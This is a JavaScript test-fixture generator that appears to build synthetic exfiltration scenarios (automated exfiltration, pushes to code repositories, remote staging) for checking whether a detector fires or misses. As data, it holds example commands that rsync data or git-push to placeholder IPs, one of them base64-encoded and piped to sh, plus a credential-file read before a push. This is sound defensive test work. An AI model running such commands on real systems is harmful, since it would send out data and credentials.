// Scenarios in which the other side answers with as much as it gets, and some of tools and sensors, for scripts/make-scenarios.mjs.

const AUTOMATED = 'T1020-automated-exfiltration';
const CODE = 'T1567.001-exfiltration-to-code-repository';
const STAGING = 'T1074.002-remote-data-staging';
const [MINUTE, HOUR, DAY, KB, MB] = [60, 3600, 86_400, 1000, 1_000_000];

/** `tools` are those of make-scenarios.mjs. */
export function makeAnsweredScenarios(tools) {
  for (const make of [
    rsync,
    jitterOfHalfTheInterval,
    answeredTunnel,
    answeredPush,
    answeredUploadToACodeHost,
    enginePushNobodyReports,
    credentialsRead,
    answeredGathering,
  ])
    make(tools);
}

/** A container that has been there for an hour, and somebody who runs a command in it. */
function entered(tools, [strategy, scenario], { draw, name, ip, at, command, values = {} }) {
  const { containerUid, inspectOf, engineEvent, engineLines, write, DAY_0 } = tools;
  const container = {
    uid: containerUid(draw),
    name,
    image: 'registry.example/shop/app:3',
    labels: {},
    ip,
    startedAt: DAY_0,
    command: [`/bin/${name}`],
  };
  write(
    strategy,
    scenario,
    'inspect.json',
    `${JSON.stringify([{ ...inspectOf(container), ...values }], null, 1)}\n`,
  );
  if (command)
    write(
      strategy,
      scenario,
      'engine-events.ndjson',
      engineLines([engineEvent(container, `exec_create: ${command}`, at)]),
    );
  return container;
}

/** rsync over SSH, up and down. */
function rsync(tools) {
  const ways = [
    ['fires-on-rsync-over-ssh', 'rsync -az /srv/data/ drop@203.0.113.140:/in/', 40 * MB, 300 * KB],
    [
      'quiet-rsync-of-somebody-elses-data',
      'rsync -az drop@203.0.113.140:/out/ /srv/data/',
      300 * KB,
      40 * MB,
    ],
  ];
  for (const [scenario, command, sent, received] of ways) {
    const draw = tools.drawing(scenario);
    const at = tools.DAY_0 + HOUR;
    entered(tools, [AUTOMATED, scenario], { draw, name: 'shop', ip: '10.20.0.110', at, command });
    tools.writeLines(AUTOMATED, scenario, 'conn.log', [
      tools.conn(draw, {
        ...{ at: at + 1, from: '10.20.0.110', to: '203.0.113.140', port: 22, service: 'ssh' },
        ...{ sent, received, seconds: 12 },
      }),
    ]);
  }
}

/** Sixteen runs, each up to half an interval early or late. */
function jitterOfHalfTheInterval(tools) {
  const scenario = 'misses-jobs-with-a-jitter-of-half-the-interval';
  const draw = tools.drawing(scenario);
  tools.writeJobRuns(AUTOMATED, scenario, {
    runs: tools.range(16).map((index) => ({
      at: tools.DAY_0 + HOUR + (index + 0.5 * (2 * draw.random() - 1)) * 5 * MINUTE,
      sent: draw.around(150 * KB, 0.04),
    })),
    service: 'exporter',
    command: ['/bin/exporter', '--once'],
    ...{ to: '203.0.113.67', port: 443, lifeSeconds: 20 },
  });
}

function answeredTunnel(tools) {
  const scenario = 'misses-a-tunnel-answered-with-as-much';
  tools.writeLines(AUTOMATED, scenario, 'conn.log', [
    tools.conn(tools.drawing(scenario), {
      ...{ at: tools.DAY_0 + HOUR, from: '10.20.0.111', to: '203.0.113.141' },
      ...{ sent: 900 * MB, received: 900 * MB, seconds: 6 * HOUR },
    }),
  ]);
}

/** git to a host that is on no list, asked for openly and in disguise; what it gets is as large as what it sent. */
function answeredPush(tools) {
  const push = 'git push -q https://203.0.113.142/x.git HEAD:main';
  const encoded = Buffer.from(push).toString('base64');
  for (const [scenario, ip, command] of [
    ['fires-on-a-push-answered-with-as-much', '10.20.0.112', push],
    [
      'fires-on-a-push-whose-command-is-encoded',
      '10.20.0.114',
      `sh -c p=${encoded}; echo $p | base64 -d | sh`,
    ],
  ]) {
    const draw = tools.drawing(scenario);
    const at = tools.DAY_0 + HOUR;
    entered(tools, [CODE, scenario], { draw, name: 'shop', ip, at, command });
    tools.writeLines(CODE, scenario, 'conn.log', [
      tools.conn(draw, {
        ...{ at: at + 1, from: ip, to: '203.0.113.142' },
        ...{ sent: 6 * MB, received: 6.1 * MB, seconds: 5 },
      }),
    ]);
  }
}

/** As `fires-on-upload-to-a-listed-code-host`, but for the answer. */
function answeredUploadToACodeHost(tools) {
  const scenario = 'misses-an-upload-to-a-code-host-answered-with-as-much';
  const draw = tools.drawing(scenario);
  const connection = tools.conn(draw, {
    ...{ at: tools.DAY_0 + HOUR, from: '10.20.0.113', to: '203.0.113.32' },
    ...{ sent: 20 * MB, received: 20 * MB, seconds: 9 },
  });
  tools.writeLines(CODE, scenario, 'conn.log', [connection]);
  tools.writeLines(CODE, scenario, 'ssl.log', [
    {
      ts: Number((connection.ts + 0.02).toFixed(6)),
      uid: connection.uid,
      ...Object.fromEntries(
        ['id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p'].map((key) => [key, connection[key]]),
      ),
      ...{ version: 'TLSv13', cipher: 'TLS_AES_128_GCM_SHA256', server_name: 'github.com' },
      ...{ resumed: false, established: true },
    },
  ]);
}

/** The container asks the engine through its socket, and the host pushes. */
function enginePushNobodyReports(tools) {
  const scenario = 'misses-a-push-by-an-engine-that-nobody-reports';
  const draw = tools.drawing(scenario);
  const socket = '/var/run/docker.sock';
  entered(tools, [CODE, scenario], {
    ...{ draw, name: 'builder', ip: '10.20.0.114' },
    values: { Mounts: [{ Type: 'bind', Source: socket, Destination: socket, RW: true }] },
  });
  tools.writeLines(CODE, scenario, 'conn.log', [
    tools.conn(draw, {
      ...{ at: tools.DAY_0 + HOUR, from: '192.168.7.4', to: '203.0.113.143' },
      ...{ sent: 8 * MB, received: 20 * KB, seconds: 3 },
    }),
  ]);
}

/** Somebody looks into git's credentials and pushes; git itself reads them and pushes little. */
function credentialsRead(tools) {
  const ways = [
    ['fires-on-credentials-read-before-a-push', 'cat', 6 * MB],
    ['quiet-credentials-used-by-git-itself', 'git', 40 * KB],
  ];
  for (const [scenario, program, sent] of ways) {
    const draw = tools.drawing(scenario);
    const at = tools.DAY_0 + HOUR;
    const command = 'git push -q https://203.0.113.142/x.git HEAD:main';
    const container = entered(tools, [CODE, scenario], {
      draw,
      name: 'shop',
      ip: '10.20.0.115',
      at,
      command,
    });
    const read = {
      ...{ sensor: 'stowaway', record: 'read', time: tools.iso(at - 40), monotonic_ns: '1000000001' },
      ...{ pid: 411, name: program, container: container.uid },
      ...{ path: '/root/.git-credentials', path_complete: true, credential: 'git credentials' },
    };
    tools.write(CODE, scenario, 'file.ndjson', `${JSON.stringify(read)}\n`);
    tools.writeLines(CODE, scenario, 'conn.log', [
      tools.conn(draw, {
        ...{ at: at + 1, from: '10.20.0.115', to: '203.0.113.142' },
        ...{ sent, received: 6 * KB, seconds: 5 },
      }),
    ]);
  }
}

/** Twelve workloads with a history give another an archive each: enough for the network alone. But it says as much back. */
function answeredGathering(tools) {
  const scenario = 'misses-a-gathering-answered-with-as-much';
  const draw = tools.drawing(scenario);
  const [cache, ...sources] = tools.range(13).map((index) => `10.20.2.${30 + index}`);
  const talk = [cache, ...sources].flatMap((from) =>
    tools.range(24).map((index) =>
      tools.conn(draw, {
        ...{ at: tools.DAY_0 + index * 2 * HOUR + draw.random() * 60, from, to: '10.20.9.9' },
        ...{ sent: draw.around(6 * KB, 0.3), received: draw.around(9 * KB, 0.3) },
      }),
    ),
  );
  const archives = sources.map((from, index) =>
    tools.conn(draw, {
      ...{ at: tools.DAY_0 + 2 * DAY + 2 * HOUR + index * 70, from, to: cache, port: 8443 },
      ...{ sent: 18 * MB, received: 18 * MB, seconds: 4 },
    }),
  );
  tools.writeLines(STAGING, scenario, 'conn.log', [...talk, ...archives]);
}
